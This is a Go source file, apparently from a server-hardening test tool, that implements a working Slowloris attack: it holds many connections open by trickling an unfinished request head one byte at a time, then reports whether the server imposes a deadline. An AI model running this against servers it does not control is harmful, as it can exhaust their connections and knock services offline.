package attack

import (
	"errors"
	"fmt"
	"io"
	"os"
	"sync"
	"sync/atomic"
	"time"
)

// Slowloris opens N connections and sends on each the opening handshake one
// byte every c.Every, without the empty line that would end it. Each holds a
// descriptor and a goroutine for as long as the server waits; a server
// with a deadline on the whole head (not on each read) cuts them off.
// After T it counts the connections the server still keeps.
func Slowloris(c Config) (Result, error) {
	var p pool
	defer p.closeAll()
	start := time.Now()
	endT := start.Add(c.T)
	var clients []*client
	for range c.N {
		cl, err := c.dial(&p, start.Add(c.T+c.Drain))
		if err != nil && len(clients) == 0 {
			return Result{}, err
		}
		if err == nil {
			clients = append(clients, cl)
		}
	}
	head := []byte(c.head(""))
	head = head[:len(head)-2] // never the empty line that ends it
	var wg sync.WaitGroup
	var kept atomic.Int32
	for _, cl := range clients {
		wg.Go(func() { trickle(cl, head, c.Every, endT) })
		wg.Go(func() {
			_ = cl.conn.SetReadDeadline(endT)
			if _, err := io.Copy(io.Discard, cl.conn); errors.Is(err, os.ErrDeadlineExceeded) {
				kept.Add(1)
			}
		})
	}
	wg.Wait()
	did := fmt.Sprintf("%d connections sent a handshake one byte every %s, for up to %s", len(clients), seconds(c.Every), seconds(c.T))
	if kept.Load() > 0 {
		return Result{Line: fmt.Sprintf("%s: your server kept %d of them to the end: no deadline on the head", did, kept.Load())}, nil
	}
	return Result{Held: true, Line: fmt.Sprintf("%s: your server cut off all %d after %s: the head has a deadline", did, len(clients), seconds(time.Since(start)))}, nil
}

// trickle writes head one byte at a time, every d, until end or until a
// write fails.
func trickle(cl *client, head []byte, d time.Duration, end time.Time) {
	for _, b := range head {
		if _, err := cl.conn.Write([]byte{b}); err != nil {
			return
		}
		wait := min(d, time.Until(end))
		if wait <= 0 {
			return
		}
		time.Sleep(wait)
	}
}
